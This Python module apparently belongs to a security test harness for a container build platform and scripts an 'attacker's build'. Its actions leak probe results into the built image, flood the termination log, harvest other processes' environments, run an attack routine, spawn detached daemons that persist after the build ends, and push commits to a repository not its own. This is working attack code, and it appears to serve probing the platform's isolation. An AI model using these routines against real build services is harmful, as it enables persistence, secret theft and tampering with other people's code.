"""What the attacker's build does: the same probes, and daemons that stay behind while the platform takes the image."""

import json
import os
import signal
import subprocess
import sys
import time

from . import facts, holding, residence, resources, swapping

RESULTS = "build-results.json"
"""In the folder that becomes the image: the application gives it to whoever asks. An installer hides the output of a build that ends
well."""


def say(line):
    print(line, flush=True)


def tell(word, value):
    """Adds to the results; printed too, for the log of a build that fails."""
    known = {}
    if os.path.exists(RESULTS):
        with open(RESULTS) as file:
            known = json.load(file)
    known.setdefault(word, []).append(value)
    with open(RESULTS, "w") as file:
        json.dump(known, file)
    say(f"{word} {json.dumps(value)[:1000]}")


def tell_facts(targets):
    tell("facts", facts.collect(targets))


def probe(targets, name, arguments):
    tell(name, resources.PROBES[name](**arguments))


def last_words(targets, mib):
    """The file for the builder's termination message, filled by its build."""
    with open("/dev/termination-log", "w") as file:
        for _ in range(mib):
            file.write("[" * (1 << 20))


def look(targets, word, seconds):
    tell("look", holding.environments(word, seconds))


def sleep(targets, seconds):
    say("SLEEPING")
    time.sleep(seconds)


def attack(targets, seconds):
    residence.attack(targets, seconds, say)


def leave_daemon(targets, name, arguments):
    """A process with neither parent, session nor streams of the build: it is there when the build has ended."""
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    null = os.open(os.devnull, os.O_RDWR)
    for number in (0, 1, 2):
        os.dup2(null, number)
    os.closerange(3, 4096)
    signal.signal(signal.SIGHUP, signal.SIG_IGN)
    try:
        swapping.DAEMONS[name](**arguments)
    finally:
        os._exit(0)


def push(targets, url, text):
    """Clones a repository that is not its own and pushes a commit to it: what git says."""
    place = os.path.join(os.environ.get("TMPDIR", "/tmp"), "stolen")
    author = ["-c", "user.name=a", "-c", "user.email=a@example.org"]
    steps = (
        ["git", "clone", "-q", url, place],
        ["git", "-C", place, *author, "commit", "-q", "--allow-empty", "-m", text],
        ["git", "-C", place, "push", "-q", "origin", "HEAD"],
    )
    codes = []
    for words in steps:
        done = subprocess.run(words, capture_output=True, text=True, timeout=30, env={**os.environ, "GIT_TERMINAL_PROMPT": "0"})
        codes.append(done.returncode)
        say(f"GIT {words[-1]} {done.returncode} {done.stderr.strip()[:200]}")
    tell("push", codes)


ACTIONS = {
    "facts": tell_facts,
    "probe": probe,
    "sleep": sleep,
    "look": look,
    "last_words": last_words,
    "attack": attack,
    "daemon": leave_daemon,
    "push": push,
    "exit": lambda targets, code: sys.exit(code),
}
